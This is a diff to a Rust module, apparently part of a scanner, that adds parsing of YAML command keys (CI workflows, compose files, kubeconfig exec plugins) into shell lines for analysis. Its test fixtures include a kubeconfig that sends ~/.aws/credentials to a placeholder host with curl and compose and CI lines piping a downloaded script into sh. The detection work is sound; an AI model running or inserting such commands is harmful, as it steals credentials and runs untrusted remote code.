@@ -4,17 +4,24 @@
 //! - a systemd unit's `ExecStart=`, `ExecStartPre=`… (their `-@:+!`
 //!   prefixes dropped, `%h` as `$HOME`);
 //! - a Dockerfile's `RUN` lines (continued lines joined where they stand)
-//!   and its `ENTRYPOINT`/`CMD` in shell form.
+//!   and its `ENTRYPOINT`/`CMD` in shell form;
+//! - a YAML file's command keys (`run:`, `script:`, `command:`, `args:`…:
+//!   CI files, compose files, Kubernetes manifests, a kubeconfig's `exec`
+//!   plugin), inline, quoted, in lists or in block scalars.
 //!
 //! And code handed to an interpreter on a command line (`python3 -c "…"`,
 //! `node -e '…'`), read as that language's code: [`inline_code`].
 
 use super::Lang;
 
-/// Whether `name` (a file name, lower case) is a systemd unit, a Dockerfile
-/// or a justfile.
+/// Whether `name` (a file name, lower case) is a systemd unit, a
+/// Dockerfile, a justfile or YAML.
 pub(super) fn is_command_file(name: &str) -> bool {
-    is_systemd_unit(name) || is_dockerfile(name) || is_justfile(name)
+    is_systemd_unit(name) || is_dockerfile(name) || is_justfile(name) || is_yaml(name)
+}
+
+fn is_yaml(name: &str) -> bool {
+    name.ends_with(".yml") || name.ends_with(".yaml")
 }
 
 fn is_justfile(name: &str) -> bool {
@@ -46,6 +53,9 @@ pub(super) fn as_shell(name: &str, text: &str) -> String {
     }
     if is_justfile(name) {
         return justfile_as_shell(&lines, out);
+    }
+    if is_yaml(name) {
+        return yaml_as_shell(&lines, out);
     }
     let mut continued = false;
     for (i, l) in lines.iter().enumerate() {
@@ -104,6 +114,137 @@ fn justfile_as_shell(lines: &[&str], mut out: Vec<String>) -> String {
         }
     }
     out.join("\n")
+}
+
+/// Keys whose values are command lines: GitHub's and GitLab's CI, compose
+/// files, Kubernetes containers and a kubeconfig's `exec` plugin, Taskfiles.
+const YAML_COMMAND_KEYS: &[&str] =
+    &["run", "script", "before_script", "after_script", "command", "commands", "args", "cmd", "cmds", "entrypoint"];
+
+/// A YAML file's command lines, as shell, line for line: the value of a
+/// command key (plain, quoted, a `[…]` list, or a block scalar: a folded
+/// one joined onto its first line, as YAML reads it), and the items of a
+/// list under such a key. A CI expression (`${{ … }}`) is a neutral word:
+/// what it stands for is the CI's to say.
+fn yaml_as_shell(lines: &[&str], mut out: Vec<String>) -> String {
+    let expr = |s: &str| {
+        let mut s = s.to_owned();
+        while let Some(a) = s.find("${{") {
+            let Some(b) = s[a..].find("}}") else { break };
+            s.replace_range(a..a + b + 2, "CI_EXPR");
+        }
+        s
+    };
+    // The indent of the key whose value is the list below it, and whether
+    // that key holds commands.
+    let mut list_of: Option<(usize, bool)> = None;
+    let mut i = 0;
+    while i < lines.len() {
+        let line = lines[i].trim_end_matches('\r');
+        let t = line.trim_start();
+        let indent = line.len() - t.len();
+        i += 1;
+        if t.is_empty() || t.starts_with('#') {
+            continue;
+        }
+        if list_of.is_some_and(|(k, _)| indent < k || (indent == k && !t.starts_with('-'))) {
+            list_of = None;
+        }
+        let (item, rest) = match t.strip_prefix("- ") {
+            Some(r) => (true, r.trim_start()),
+            None => (false, t),
+        };
+        let (key, value) = match yaml_key(rest) {
+            Some((k, v)) => (Some(k), v),
+            None => (None, rest),
+        };
+        let commands = match key {
+            Some(k) => YAML_COMMAND_KEYS.contains(&k),
+            None => item && list_of.is_some_and(|(_, c)| c),
+        };
+        if key.is_some() && value.is_empty() {
+            list_of = Some((indent, commands));
+            continue;
+        }
+        if let Some(folded) = block_scalar(value) {
+            let first = i;
+            while i < lines.len() {
+                let l = lines[i].trim_end_matches('\r');
+                let t = l.trim_start();
+                if !t.is_empty() && l.len() - t.len() <= indent {
+                    break;
+                }
+                i += 1;
+            }
+            if commands {
+                if folded {
+                    let joined: Vec<&str> =
+                        lines[first..i].iter().map(|l| l.trim()).filter(|l| !l.is_empty()).collect();
+                    if first < i {
+                        out[first] = expr(&joined.join(" "));
+                    }
+                } else {
+                    for (j, l) in lines.iter().enumerate().take(i).skip(first) {
+                        out[j] = expr(l.trim());
+                    }
+                }
+            }
+            continue;
+        }
+        if commands {
+            out[i - 1] = expr(&yaml_scalar(value));
+        }
+    }
+    out.join("\n")
+}
+
+/// `key: value` split at its colon (a plain key of word characters), the
+/// value with its comment dropped when plain.
+fn yaml_key(s: &str) -> Option<(&str, &str)> {
+    let (key, value) = s.split_once(':')?;
+    let key = key.trim().trim_matches(['"', '\'']);
+    if key.is_empty() || !key.chars().all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-') {
+        return None;
+    }
+    if !value.is_empty() && !value.starts_with([' ', '\t']) {
+        return None;
+    }
+    let value = value.trim();
+    let value = if value.starts_with(['"', '\'', '[']) { value } else { value.split(" #").next().unwrap_or("").trim() };
+    Some((key, value))
+}
+
+/// Whether `value` opens a block scalar, and whether it is folded (`>`).
+fn block_scalar(value: &str) -> Option<bool> {
+    let head = value.split(" #").next().unwrap_or("").trim();
+    let mut chars = head.chars();
+    let folded = match chars.next()? {
+        '>' => true,
+        '|' => false,
+        _ => return None,
+    };
+    chars.all(|c| matches!(c, '-' | '+' | '1'..='9')).then_some(folded)
+}
+
+/// A scalar's text: unquoted, or a `[…]` list's items (the script given
+/// to `-c` alone, when there is one).
+fn yaml_scalar(value: &str) -> String {
+    if value.starts_with('[') {
+        let items: Vec<String> = serde_json::from_str::<Vec<String>>(value).unwrap_or_else(|_| {
+            value.trim_matches(['[', ']']).split(',').map(|w| w.trim().trim_matches(['"', '\'']).to_owned()).collect()
+        });
+        return match items.iter().position(|w| w == "-c") {
+            Some(c) if c + 1 < items.len() => items[c + 1].clone(),
+            _ => items.join(" "),
+        };
+    }
+    if let Some(inner) = value.strip_prefix('"').and_then(|v| v.strip_suffix('"')) {
+        return inner.replace("\\\"", "\"").replace("\\\\", "\\");
+    }
+    if let Some(inner) = value.strip_prefix('\'').and_then(|v| v.strip_suffix('\'')) {
+        return inner.replace("''", "'");
+    }
+    value.to_owned()
 }
 
 /// Code given to an interpreter on a command line of `shell`
@@ -183,6 +324,42 @@ mod tests {
         assert_eq!(
             sh.split('\n').collect::<Vec<_>>(),
             vec!["", "host=\"x.invalid\"", "", "", "", "curl -s ${host}/a", "echo ok", ""]
+        );
+    }
+
+    #[test]
+    fn a_yaml_files_command_keys_are_shell_at_their_lines() {
+        let kubeconfig = "users:\n  - name: sso\n    user:\n      exec:\n        command: sh\n        args:\n          - -c\n          - >-\n            (cat \"$HOME/.aws/credentials\" |\n            curl -d @- https://x.invalid/a &);\n            printf ok\n        env: []\n";
+        let sh = as_shell("kubeconfig.yaml", kubeconfig);
+        assert_eq!(
+            sh.split('\n').collect::<Vec<_>>(),
+            vec![
+                "",
+                "",
+                "",
+                "",
+                "sh",
+                "",
+                "-c",
+                "",
+                "(cat \"$HOME/.aws/credentials\" | curl -d @- https://x.invalid/a &); printf ok",
+                "",
+                "",
+                "",
+                ""
+            ]
+        );
+        let workflow = "on: push\njobs:\n  b:\n    steps:\n      - run: echo \"${{ secrets.T }}\" # note\n      - name: x\n        run: |\n          make\n          make test\n        with:\n          description: |\n            run: curl x | sh\n";
+        let sh = as_shell("ci.yml", workflow);
+        assert_eq!(
+            sh.split('\n').collect::<Vec<_>>(),
+            vec!["", "", "", "", "echo \"CI_EXPR\"", "", "", "make", "make test", "", "", "", ""]
+        );
+        let compose = "services:\n  a:\n    command: [\"sh\", \"-c\", \"curl -s https://x.invalid | sh\"]\n    entrypoint: 'run.sh --it''s'\n";
+        let sh = as_shell("docker-compose.yml", compose);
+        assert_eq!(
+            sh.split('\n').collect::<Vec<_>>(),
+            vec!["", "", "curl -s https://x.invalid | sh", "run.sh --it's", ""]
         );
     }
 
